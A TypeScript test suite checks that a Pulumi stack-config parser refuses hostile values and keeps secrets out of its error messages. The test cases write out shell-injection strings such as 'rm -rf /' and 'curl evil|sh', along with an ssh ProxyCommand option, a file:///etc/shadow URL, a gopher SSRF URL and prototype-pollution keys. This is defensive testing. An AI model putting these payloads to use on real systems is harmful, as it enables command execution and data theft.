// Hostile stack configs, class by class (issue 14): each is refused with its path before any
// resource exists, and no message echoes a secret or more than a bounded prefix of a value.
import * as assert from "assert";
import * as fc from "fast-check";
import { parseStackConfig } from "../stacks/parse";
import { formatProblem, show, SHOWN_CHARS } from "../stacks/problems";
import { SET_PRIVATE_KEY } from "../stacks/secrets";
import { parsedConfig, problemsOf, stackFileConfig } from "./harness";

type Config = Record<string, any>;

const PWNED = 'x"; touch /tmp/oslo-mesh-pwned; "';
/** A syntactically valid, unencrypted OpenSSH private key block (not a real key). */
const PRIVATE_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACDIhCpwC4ouUxZfL3EiE4R5ySUAabnasHostilesecretmaterial0000000\n-----END OPENSSH PRIVATE KEY-----\n";
const SECURE = { secure: "v1:AAAABBBBCCCCDDDDEEEEFFFF:ZmFrZS1jaXBoZXJ0ZXh0LW5vdC1yZWFs" };

function edited(stack: string, edit: (c: Config) => void): Config {
    const c = stackFileConfig(stack);
    edit(c);
    return c;
}

/** Keys JavaScript object literals would treat specially: built through JSON so they stay plain own keys. */
function withRawKeys(base: Config, json: string): Config {
    return Object.assign(Object.create(null), base, JSON.parse(json));
}

interface Case {
    readonly what: string;
    readonly stack: string;
    readonly edit?: (c: Config) => void;
    /** Replaces the whole config map (for keys an object literal cannot hold). */
    readonly config?: () => Config;
    readonly as?: string;
    readonly secretKeys?: string[];
    /** Every expected problem: its exact path and a part of its message. */
    readonly expect: ReadonlyArray<[path: string, fragment: string]>;
}

const cases: Record<string, Case[]> = {
    "(a) values that reach a script, a file or a command line": [
        { what: "a kernel argument that breaks out of the grub assignment", stack: "staging", edit: (c) => (c["oslo-mesh:vps"].image = { kernelArgs: [PWNED] }), expect: [["oslo-mesh:vps.image.kernelArgs[0]", "must be one kernel argument"]] },
        { what: "a kernel argument with a command substitution", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].image = { kernelArgs: ["console=$(reboot)"] }), expect: [["oslo-mesh:vps.image.kernelArgs[0]", "must be one kernel argument"]] },
        { what: "a kernel argument with backticks and a GRUB command separator", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].image = { kernelArgs: ["quiet;`id`"] }), expect: [["oslo-mesh:vps.image.kernelArgs[0]", "must be one kernel argument"]] },
        { what: "a kernel argument with a space (two arguments in one)", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].image = { kernelArgs: ["quiet init=/bin/sh"] }), expect: [["oslo-mesh:vps.image.kernelArgs[0]", "must be one kernel argument"]] },
        { what: "the kernel's end-of-arguments marker", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].image = { kernelArgs: ["--"] }), expect: [["oslo-mesh:vps.image.kernelArgs[0]", "must be one kernel argument"]] },
        { what: "a kernel argument with a newline", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].image = { kernelArgs: ["quiet\nGRUB_DISABLE_LINUX_UUID=true"] }), expect: [["oslo-mesh:vps.image.kernelArgs[0]", "must be one line without control characters; it holds a newline"]] },
        { what: "33 kernel arguments", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].image = { kernelArgs: Array.from({ length: 33 }, (_, i) => `a${i}=1`) }), expect: [["oslo-mesh:vps.image.kernelArgs", "must have at most 32 item(s)"]] },
        { what: "a bridge that adds a virt-install sub-option (another MAC)", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].hypervisors[0].bridge = "br0,mac=52:54:00:00:00:01"), expect: [["oslo-mesh:vps.hypervisors[0].bridge", "must be a network interface name"]] },
        { what: "a network that adds a filterref", stack: "dev", edit: (c) => (c["oslo-mesh:vps"] = { hypervisors: [{ name: "local", user: "root", port: 22, pool: "default", network: "default,filterref=clean-traffic", nameservers: [] }] }), expect: [["oslo-mesh:vps.hypervisors[0].network", "must be a libvirt name"]] },
        { what: "a pool that names another pool's volume", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].hypervisors[1].pool = "nvme/../default"), expect: [["oslo-mesh:vps.hypervisors[1].pool", "must be a libvirt name"]] },
        { what: "a pool with a quote (shlex in virt-install)", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].hypervisors[2].pool = "nvme'x"), expect: [["oslo-mesh:vps.hypervisors[2].pool", "must be a libvirt name"]] },
        { what: "a bridge name longer than IFNAMSIZ", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].hypervisors[0].bridge = "br-public-uplink0"), expect: [["oslo-mesh:vps.hypervisors[0].bridge", "at most 15"]] },
        { what: "an SSH public key followed by a second key with options", stack: "staging", edit: (c) => (c["oslo-mesh:ssh"].publicKey += '\ncommand="/bin/sh" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMiEKnALii5TFl8vcRIThHnJLQBpyE2enwH2o/dnYEqq evil'), expect: [["oslo-mesh:ssh.publicKey", "must be one line without control characters"]] },
        { what: "an SSH public key with authorized_keys options in front", stack: "staging", edit: (c) => (c["oslo-mesh:ssh"].publicKey = `command="curl evil|sh" ${c["oslo-mesh:ssh"].publicKey}`), expect: [["oslo-mesh:ssh.publicKey", "unknown key type"]] },
        { what: "an SSH public key with a carriage return", stack: "staging", edit: (c) => (c["oslo-mesh:ssh"].publicKey += "\rssh-rsa AAAA"), expect: [["oslo-mesh:ssh.publicKey", "carriage return"]] },
        { what: "root as the admin user", stack: "staging", edit: (c) => (c["oslo-mesh:ssh"].user = "root"), expect: [["oslo-mesh:ssh.user", "must not be root"]] },
        { what: "an admin user with shell syntax", stack: "staging", edit: (c) => (c["oslo-mesh:ssh"].user = "ops;id"), expect: [["oslo-mesh:ssh.user", "must be a POSIX user name"]] },
        { what: "a hypervisor user with shell syntax", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].hypervisors[0].user = "root$(id)"), expect: [["oslo-mesh:vps.hypervisors[0].user", "must be a POSIX user name"]] },
        { what: "a hypervisor host that is an ssh option", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].hypervisors[0].host = "-oProxyCommand=sh"), expect: [["oslo-mesh:vps.hypervisors[0].host", "must be an IPv4 address or a DNS name"]] },
        { what: "a file: image URL (curl would read the hypervisor's own files)", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].image = { url: "file:///etc/shadow" }), expect: [["oslo-mesh:vps.image.url", "file: is not allowed"]] },
        { what: "an image URL with credentials", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].image = { url: "https://ops:hunter2@images.example/focal.img" }), expect: [["oslo-mesh:vps.image.url", "must not hold credentials"]] },
        { what: "an image URL with a quote and a command substitution", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].image = { url: 'https://images.example/"$(id)".img' }), expect: [["oslo-mesh:vps.image.url", "RFC 3986 characters only"]] },
        { what: "a gopher: download mirror", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].downloadBaseUrl = "gopher://127.0.0.1:6379/_FLUSHALL"), expect: [["oslo-mesh:kubernetes.downloadBaseUrl", "gopher: is not allowed"]] },
        { what: "a CNI manifest URL with a space", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].cni = { manifestUrl: "https://x.example/calico.yaml -o /etc/passwd" }), expect: [["oslo-mesh:kubernetes.cni.manifestUrl", "RFC 3986 characters only"]] },
        { what: "a containerd version with a shell command", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].containerdVersion = "1.3.3; rm -rf /"), expect: [["oslo-mesh:kubernetes.containerdVersion", "must be a Debian package version"]] },
        { what: "a containerd version that is an apt option", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].containerdVersion = "-oAPT::Get::AllowUnauthenticated=1"), expect: [["oslo-mesh:kubernetes.containerdVersion", "must be a Debian package version"]] },
        { what: "a crictl version with a trailing space", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].crictlVersion = "1.23.0 "), expect: [["oslo-mesh:kubernetes.crictlVersion", "must be a version X.Y.Z"]] },
        { what: "a node name with an underscore (refused by DNS and Kubernetes)", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][3].name = "prod_worker_1"), expect: [["oslo-mesh:nodes[3].name", "must be a DNS-1123 label"]] },
        { what: "a node name of 64 characters", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][3].name = "w".repeat(64)), expect: [["oslo-mesh:nodes[3].name", "must be a DNS-1123 label"]] },
        { what: "a node name starting with '-' (an option to virsh)", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][3].name = "-worker"), expect: [["oslo-mesh:nodes[3].name", "must be a DNS-1123 label"]] },
        { what: "a cluster domain with shell syntax", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].clusterDomain = "cluster.local;reboot"), expect: [["oslo-mesh:kubernetes.clusterDomain", "must be a DNS name"]] },
        { what: "a pod CIDR with sed syntax", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].podCidr = "10.244.0.0/16|e"), expect: [["oslo-mesh:kubernetes.podCidr", "must be an IPv4 CIDR"]] },
        { what: "a pod CIDR with host bits", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].podCidr = "10.244.7.0/16"), expect: [["oslo-mesh:kubernetes.podCidr", "canonical IPv4 CIDR with no host bits, such as 10.244.0.0/16"]] },
        { what: "an admin CIDR in hex", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].adminCidrs = ["0xC6.51.100.0/24"]), expect: [["oslo-mesh:kubernetes.adminCidrs[0]", "must be an IPv4 CIDR"]] },
    ],
    "(b) parsing immune to prototype tricks; prod's rules cannot be talked around": [
        {
            what: "oslo-mesh:__proto__ carrying another environment and mTLS DISABLE on prod",
            stack: "prod",
            config: () => withRawKeys(edited("prod", (c) => (c["oslo-mesh:mesh"].mtls = { mode: "DISABLE" })), '{"oslo-mesh:__proto__": {"environment": "staging"}}'),
            expect: [["oslo-mesh:__proto__", "unknown key; expected one of: environment"], ["oslo-mesh:mesh.mtls.mode", "prod requires STRICT mTLS, got DISABLE"]],
        },
        { what: "oslo-mesh:constructor", stack: "prod", config: () => withRawKeys(stackFileConfig("prod"), '{"oslo-mesh:constructor": {"prototype": {"environment": "dev"}}}'), expect: [["oslo-mesh:constructor", "unknown key"]] },
        { what: "oslo-mesh:prototype", stack: "prod", config: () => withRawKeys(stackFileConfig("prod"), '{"oslo-mesh:prototype": "x"}'), expect: [["oslo-mesh:prototype", "unknown key"]] },
        {
            what: "a nested __proto__ that would switch the mesh to DISABLE",
            stack: "prod",
            config: () => withRawKeys(stackFileConfig("prod"), '{"oslo-mesh:mesh": {"ingress": {"hosts": ["bookinfo.oslo-mesh.example"], "namespace": "bookinfo", "service": "productpage", "port": 9080}, "__proto__": {"mtls": {"mode": "DISABLE"}}}}'),
            expect: [["oslo-mesh:mesh.__proto__", "unknown key (reserved"]],
        },
        { what: "a nested constructor inside a node", stack: "prod", config: () => withRawKeys(stackFileConfig("prod"), `{"oslo-mesh:nodes": ${JSON.stringify(stackFileConfig("prod")["oslo-mesh:nodes"]).replace('"role":"control-plane"', '"role":"control-plane","constructor":{"name":"x"}')}}`), expect: [["oslo-mesh:nodes[0].constructor", "unknown key (reserved"]] },
        { what: "a __proto__ label key in a canary subset", stack: "staging", config: () => withRawKeys(stackFileConfig("staging"), `{"oslo-mesh:canaries": ${JSON.stringify(stackFileConfig("staging")["oslo-mesh:canaries"]).replace('"labels":{"version":"v1"}', '"labels":{"version":"v1","__proto__":{"x":"y"}}')}}`), expect: [["oslo-mesh:canaries[0].subsets[0].labels.__proto__", "unknown key (reserved"]] },
        { what: "a key with no namespace", stack: "prod", config: () => ({ ...stackFileConfig("prod"), ssh: { user: "mallory" } }), expect: [['"ssh"', "a key without a namespace"]] },
        { what: "a key of another namespace", stack: "prod", edit: (c) => (c["aws:region"] = "eu-north-1"), expect: [['"aws:region"', "unknown namespace \"aws\""]] },
        { what: "a misspelt namespace", stack: "prod", edit: (c) => (c["oslo-mseh:mesh"] = { mtls: { mode: "DISABLE" } }), expect: [['"oslo-mseh:mesh"', "unknown namespace"]] },
        { what: "the prod stack declaring itself staging", stack: "prod", edit: (c) => { c["oslo-mesh:environment"] = "staging"; c["oslo-mesh:mesh"].mtls = { mode: "DISABLE" }; }, expect: [["oslo-mesh:environment", "the stack prod is the prod environment"]] },
        { what: "the dev stack declaring itself prod", stack: "dev", edit: (c) => (c["oslo-mesh:environment"] = "prod"), expect: [["oslo-mesh:environment", "the stack dev is the dev environment"]] },
        { what: "the staging stack declaring itself dev", stack: "staging", edit: (c) => (c["oslo-mesh:environment"] = "dev"), expect: [["oslo-mesh:environment", "the stack staging is the staging environment"]] },
        { what: "prod open to the whole internet", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].adminCidrs = ["198.51.100.0/24", "0.0.0.0/0"]), expect: [["oslo-mesh:kubernetes.adminCidrs[1]", "prod refuses 0.0.0.0/0"]] },
        { what: "prod open to half the internet twice (0.0.0.0/1 + 128.0.0.0/1)", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].adminCidrs = ["0.0.0.0/1", "128.0.0.0/1"]), expect: [["oslo-mesh:kubernetes.adminCidrs[0]", "prod refuses 0.0.0.0/1"], ["oslo-mesh:kubernetes.adminCidrs[1]", "prod refuses 128.0.0.0/1"]] },
        { what: "prod with an admin /7", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].adminCidrs = ["10.0.0.0/7"]), expect: [["oslo-mesh:kubernetes.adminCidrs[0]", "wider than a /8"]] },
        { what: "prod with every control plane on one hypervisor", stack: "prod", edit: (c) => c["oslo-mesh:nodes"].slice(0, 3).forEach((n: Config) => (n.hypervisor = "osl-hv-2")), expect: [["oslo-mesh:nodes", "all control-plane nodes (prod-cp-1, prod-cp-2, prod-cp-3) would run on hypervisor \"osl-hv-2\""]] },
        { what: "prod with only one hypervisor", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].hypervisors = c["oslo-mesh:vps"].hypervisors.slice(0, 1)), expect: [["oslo-mesh:nodes", "all control-plane nodes"]] },
        { what: "prod with two of three control planes on one hypervisor", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].hypervisors = c["oslo-mesh:vps"].hypervisors.slice(0, 2)), expect: [["oslo-mesh:nodes", "2 of 3 control-plane nodes"]] },
        { what: "prod accepting plaintext in istio-system", stack: "prod", edit: (c) => (c["oslo-mesh:mesh"].mtls = { exceptions: [{ namespace: "istio-system" }] }), expect: [["oslo-mesh:mesh.mtls.exceptions[0].namespace", "prod refuses a plaintext exception for istio-system"]] },
        { what: "prod accepting plaintext for one kube-system service", stack: "prod", edit: (c) => (c["oslo-mesh:mesh"].mtls = { exceptions: [{ namespace: "kube-system", service: "kube-dns" }] }), expect: [["oslo-mesh:mesh.mtls.exceptions[0].namespace", "prod refuses a plaintext exception for kube-system"]] },
    ],
    "(c) secrets: ssh.privateKey only, only as a Pulumi secret": [
        { what: "a private key in plain text", stack: "prod", edit: (c) => (c["oslo-mesh:ssh"].privateKey = PRIVATE_KEY), expect: [["oslo-mesh:ssh.privateKey", `is in plain text in the stack file; remove it (pulumi config rm --path 'oslo-mesh:ssh.privateKey') and store it encrypted: ${SET_PRIVATE_KEY}`]] },
        { what: "ssh.user set with --secret --path", stack: "prod", edit: (c) => (c["oslo-mesh:ssh"].user = SECURE), expect: [["oslo-mesh:ssh.user", "is encrypted (set with --secret) but holds nothing secret"]] },
        { what: "a node's IP set with --secret --path", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][0].ip = SECURE), expect: [["oslo-mesh:nodes", "is set as a secret but holds nothing secret"], ["oslo-mesh:nodes[0].ip", "is encrypted (set with --secret) but holds nothing secret"]] },
        { what: "region set with --secret", stack: "prod", edit: (c) => (c["oslo-mesh:region"] = SECURE), expect: [["oslo-mesh:region", "is set as a secret but holds nothing secret"]] },
        { what: "the ssh section secret without a private key", stack: "prod", secretKeys: ["oslo-mesh:ssh"], expect: [["oslo-mesh:ssh", "only ssh.privateKey may be"]] },
        { what: "a secret private key that is no key", stack: "prod", secretKeys: ["oslo-mesh:ssh"], edit: (c) => (c["oslo-mesh:ssh"].privateKey = "hunter2-is-my-password"), expect: [["oslo-mesh:ssh.privateKey", "expected an OpenSSH or PEM private key"]] },
    ],
    "(d) resource limits": [
        { what: "289 vCPUs", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][3].vcpus = 289), expect: [["oslo-mesh:nodes[3].vcpus", "must be at most 288, got 289"]] },
        { what: "1e21 vCPUs", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][3].vcpus = 1e21), expect: [["oslo-mesh:nodes[3].vcpus", "at most"]] },
        { what: "2 TiB of memory", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][3].memoryMiB = 2 * 1024 * 1024), expect: [["oslo-mesh:nodes[3].memoryMiB", "must be at most 1048576, got 2097152"]] },
        { what: "a 100 TiB disk", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][3].diskGiB = 102400), expect: [["oslo-mesh:nodes[3].diskGiB", "must be at most 65536"]] },
        { what: "1001 nodes", stack: "staging", edit: (c) => (c["oslo-mesh:nodes"] = Array.from({ length: 1001 }, (_, i) => ({ name: `n${i}`, role: "worker" }))), expect: [["oslo-mesh:nodes", "must have at most 1000 items, got 1001"]] },
        { what: "a 20 KiB string", stack: "prod", edit: (c) => (c["oslo-mesh:istio"].accessLogFile = "/".repeat(20000)), expect: [["oslo-mesh:istio.accessLogFile", "must be at most 16384 characters, got 20000"]] },
        { what: "1.1 MiB of configuration", stack: "prod", edit: (c) => (c["oslo-mesh:load"] = { services: Array.from({ length: 900 }, (_, i) => ({ name: `s${i}`, namespace: "x".repeat(1300), rps: 1, replicas: 1 })) }), expect: [["oslo-mesh", "at most 1048576 are read"]] },
        { what: "nesting 40 levels deep", stack: "prod", edit: (c) => { let o: Config = {}; c["oslo-mesh:istio"].tracing = o; for (let i = 0; i < 40; i++) o = o.x = {}; }, expect: [["oslo-mesh:istio.tracing.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x", "nested deeper than 16 levels"]] },
        { what: "a node IP that is the subnet's network address", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][3].ip = "203.0.113.0"), expect: [["oslo-mesh:nodes[3].ip", "is the network address of hypervisor"]] },
        { what: "a node IP that is the subnet's broadcast address", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][3].ip = "203.0.113.255"), expect: [["oslo-mesh:nodes[3].ip", "is the broadcast address of hypervisor"]] },
        { what: "a node IP that is the gateway", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][3].ip = "203.0.113.1"), expect: [["oslo-mesh:nodes[3].ip", "is the gateway of hypervisor"]] },
        { what: "a node IP that is a hypervisor's address", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][3].ip = "203.0.113.3"), expect: [["oslo-mesh:nodes[3].ip", "is the address of hypervisor \"osl-hv-2\""]] },
        { what: "a loopback node IP (inventory)", stack: "staging", edit: (c) => { c["oslo-mesh:vps"] = { driver: "inventory" }; c["oslo-mesh:nodes"][2].ip = "127.0.0.1"; }, expect: [["oslo-mesh:nodes[2].ip", "127.0.0.1 is a loopback address"]] },
        { what: "a multicast node IP (inventory)", stack: "staging", edit: (c) => { c["oslo-mesh:vps"] = { driver: "inventory" }; c["oslo-mesh:nodes"][2].ip = "224.0.0.5"; }, expect: [["oslo-mesh:nodes[2].ip", "multicast"]] },
        { what: "the unspecified address as a private IP (inventory)", stack: "staging", edit: (c) => { c["oslo-mesh:vps"] = { driver: "inventory" }; c["oslo-mesh:nodes"][2].privateIp = "0.0.0.0"; }, expect: [["oslo-mesh:nodes[2].privateIp", "the unspecified address"]] },
        { what: "a link-local node IP (inventory)", stack: "staging", edit: (c) => { c["oslo-mesh:vps"] = { driver: "inventory" }; c["oslo-mesh:nodes"][1].ip = "169.254.169.254"; }, expect: [["oslo-mesh:nodes[1].ip", "link-local"]] },
        { what: "Kubernetes v1.15.12 (with a v)", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].version = "v1.15.12"), expect: [["oslo-mesh:kubernetes.version", "must be a version X.Y.Z"]] },
        { what: "Kubernetes 1.15.12 with a newline", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].version = "1.15.12\n"), expect: [["oslo-mesh:kubernetes.version", "a newline"]] },
        { what: "Kubernetes 1.15 (no patch)", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].version = "1.15"), expect: [["oslo-mesh:kubernetes.version", "must be a version X.Y.Z"]] },
        { what: "a pod CIDR with room for 2 nodes in a 6-node cluster", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].podCidr = "10.244.0.0/23"), expect: [["oslo-mesh:kubernetes.podCidr", "10.244.0.0/23 has room for 2 nodes: every node takes a /24 of it (kube-controller-manager as kubeadm sets it up), and the stack has 6; expected /21 or larger"]] },
        { what: "a pod CIDR smaller than one node's /24", stack: "staging", edit: (c) => (c["oslo-mesh:kubernetes"].podCidr = "10.244.0.0/26"), expect: [["oslo-mesh:kubernetes.podCidr", "has room for 0 nodes"]] },
        { what: "a service CIDR larger than kube-apiserver takes", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].serviceCidr = "10.0.0.0/8"), expect: [["oslo-mesh:kubernetes.serviceCidr", "too large: kube-apiserver takes at most a /12"]] },
        { what: "a service CIDR without a tenth address for DNS", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].serviceCidr = "10.96.0.0/29"), expect: [["oslo-mesh:kubernetes.serviceCidr", "too small: kubeadm puts cluster DNS on its tenth address"]] },
        { what: "nine nameservers", stack: "prod", edit: (c) => (c["oslo-mesh:vps"].hypervisors[0].nameservers = Array.from({ length: 9 }, (_, i) => `193.75.75.${i + 1}`)), expect: [["oslo-mesh:vps.hypervisors[0].nameservers", "at most 8"]] },
    ],
    "(e) what failed after validation is a validation error with its path": [
        { what: "a newline in controlPlaneEndpoint (crashed splitEndpoint)", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].controlPlaneEndpoint = "api.prod.oslo-mesh.example\n:6443"), expect: [["oslo-mesh:kubernetes.controlPlaneEndpoint", "a newline"]] },
        { what: "a controlPlaneEndpoint that is no host[:port]", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].controlPlaneEndpoint = "api.example:6443:1"), expect: [["oslo-mesh:kubernetes.controlPlaneEndpoint", "must be host[:port]"]] },
        { what: "a controlPlaneEndpoint port out of range", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].controlPlaneEndpoint = "api.example:99999"), expect: [["oslo-mesh:kubernetes.controlPlaneEndpoint", "port must be 1 to 65535, got 99999"]] },
        { what: "the script delimiter line inside a value that reaches a script", stack: "prod", edit: (c) => (c["oslo-mesh:kubernetes"].containerdVersion = "1.3.3\nOSLO_MESH_SCRIPT\ntouch /tmp/oslo-mesh-pwned"), expect: [["oslo-mesh:kubernetes.containerdVersion", "a newline"]] },
        { what: "the script delimiter line inside any other value", stack: "prod", edit: (c) => (c["oslo-mesh:istio"].accessLogFile = "/dev/stdout\nOSLO_MESH_SCRIPT\n"), expect: [["oslo-mesh:istio.accessLogFile", "a newline"]] },
        { what: "a NUL inside a value", stack: "prod", edit: (c) => (c["oslo-mesh:nodes"][0].name = "prod-cp-1\u0000x"), expect: [["oslo-mesh:nodes[0].name", "U+0000"]] },
    ],
};

for (const [klass, list] of Object.entries(cases)) {
    describe(`hostile config ${klass}`, () => {
        for (const c of list) {
            it(c.what, () => {
                const config = c.config ? c.config() : edited(c.stack, c.edit ?? (() => undefined));
                const problems = problemsOf(c.as ?? c.stack, config, c.secretKeys);
                for (const [path, fragment] of c.expect) {
                    const hit = problems.find((p) => p.startsWith(`${path}: `) && p.includes(fragment));
                    assert.ok(hit, `expected a problem at ${path} containing\n  ${fragment}\ngot\n  ${problems.join("\n  ")}`);
                }
                for (const p of problems) assert.ok(p.length < 700, `a message stays short: ${p.slice(0, 100)}…`);
            });
        }
    });
}

describe("hostile config: what is still accepted", () => {
    it("staging may open SSH to everyone (only prod refuses it)", () => {
        assert.deepStrictEqual(problemsOf("staging", edited("staging", (c) => (c["oslo-mesh:kubernetes"].adminCidrs = ["0.0.0.0/0"]))), []);
    });
    it("staging may accept plaintext in kube-system for a migration (only prod refuses it)", () => {
        assert.deepStrictEqual(problemsOf("staging", edited("staging", (c) => (c["oslo-mesh:mesh"].mtls = { exceptions: [{ namespace: "kube-system" }] }))), []);
    });
    it("a stack with another name may declare any environment, and prod-named stacks their own", () => {
        assert.deepStrictEqual(problemsOf("qa", { ...stackFileConfig("staging"), "oslo-mesh:environment": "staging" }), []);
        assert.deepStrictEqual(problemsOf("prod", { ...stackFileConfig("prod"), "oslo-mesh:environment": "prod" }), []);
    });
    it("the compat key form oslo-mesh:config:<key> is the same key", () => {
        const c = stackFileConfig("prod");
        const ssh = c["oslo-mesh:ssh"];
        delete c["oslo-mesh:ssh"];
        assert.deepStrictEqual(problemsOf("prod", { ...c, "oslo-mesh:config:ssh": ssh }), []);
    });
    it("kernel arguments of the usual kinds", () => {
        const args = ["systemd.unified_cgroup_hierarchy=0", "console=ttyS0,115200n8", "root=/dev/vda1", "quiet", "isolcpus=2-3", "iommu.passthrough=1", "ip=dhcp", "nvme_core.io_timeout=4294967295"];
        assert.deepStrictEqual(problemsOf("prod", edited("prod", (c) => (c["oslo-mesh:vps"].image = { kernelArgs: args }))), []);
    });
    it("a pod CIDR of exactly one /24 per node, and a /28 service CIDR", () => {
        // 6 nodes need 6 /24s: a /21 has 8.
        assert.deepStrictEqual(problemsOf("prod", edited("prod", (c) => Object.assign(c["oslo-mesh:kubernetes"], { podCidr: "10.244.0.0/21", serviceCidr: "10.96.0.0/28" }))), []);
    });
});

describe("hostile config (c): a secure: private key, as `pulumi config set --secret --path` writes it", () => {
    const withSecureKey = () => edited("prod", (c) => (c["oslo-mesh:ssh"].privateKey = SECURE));

    it("is accepted in the committed prod stack and marks oslo-mesh:ssh secret", () => {
        assert.deepStrictEqual(problemsOf("prod", withSecureKey()), []);
        const parsed = parsedConfig("prod", withSecureKey());
        assert.strictEqual(parsed.ssh.privateKey, "[secret placeholder for oslo-mesh:ssh.privateKey]");
    });

    it("a decrypted key, as the CLI hands it over with oslo-mesh:ssh in the secret keys, is accepted", () => {
        const c = edited("prod", (x) => (x["oslo-mesh:ssh"].privateKey = PRIVATE_KEY));
        assert.deepStrictEqual(problemsOf("prod", c, ["oslo-mesh:ssh"]), []);
    });

    it("no message quotes a value of the secret ssh section, even when the user or key is wrong", () => {
        const c = edited("prod", (x) => Object.assign(x["oslo-mesh:ssh"], { privateKey: PRIVATE_KEY.replace("-----END", "oops-----END"), user: "Hunter2SecretUser" }));
        const problems = problemsOf("prod", c, ["oslo-mesh:ssh"]);
        assert.ok(problems.some((p) => p.startsWith("oslo-mesh:ssh.user: ")), problems.join("\n"));
        assert.ok(problems.some((p) => p.startsWith("oslo-mesh:ssh.privateKey: ")), problems.join("\n"));
        const all = problems.join("\n");
        assert.ok(!all.includes("Hunter2SecretUser") && !all.includes("Hostilesecretmaterial") && !all.includes("b3BlbnNzaC1rZXkt"), all);
    });
});

describe("hostile config: messages show at most a bounded prefix of any value", () => {
    it("show() keeps SHOWN_CHARS characters, escapes control and bidi characters", () => {
        fc.assert(
            fc.property(fc.string({ unit: "binary", maxLength: 400 }), (s) => {
                const shown = show(s);
                assert.ok(shown.length <= SHOWN_CHARS * 6 + 40, shown);
                assert.ok(!/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/.test(shown), JSON.stringify(shown));
                if (s.length > SHOWN_CHARS) assert.ok(!shown.includes(s.slice(0, SHOWN_CHARS + 1)));
            }),
        );
    });

    it("a long hostile value in any string key is quoted only by its first characters", () => {
        const long = `${"A".repeat(50)}${"SECRET-TAIL".repeat(100)}`;
        const problems = problemsOf("prod", edited("prod", (c) => Object.assign(c["oslo-mesh:kubernetes"], { containerdVersion: long, clusterDomain: long, controlPlaneEndpoint: long })));
        assert.strictEqual(problems.length, 3, problems.join("\n"));
        for (const p of problems) {
            assert.ok(!p.includes("SECRET-TAIL"), p);
            assert.ok(p.includes(`(${long.length} characters)`), p);
        }
    });

    it("the loader never throws, whatever JSON a key holds", () => {
        const json = fc.jsonValue({ maxDepth: 6 });
        fc.assert(
            fc.property(fc.constantFrom("ssh", "vps", "nodes", "kubernetes", "istio", "mesh", "canaries", "environment", "__proto__", "constructor"), json, (key, value) => {
                const values = { "oslo-mesh:ssh": JSON.stringify(stackFileConfig("prod")["oslo-mesh:ssh"]), [`oslo-mesh:${key}`]: JSON.stringify(value) };
                const { problems } = parseStackConfig("prod", { values, isSecret: () => false });
                for (const p of problems) assert.ok(formatProblem(p).length < 2000);
            }),
            { numRuns: 200 },
        );
    });
});
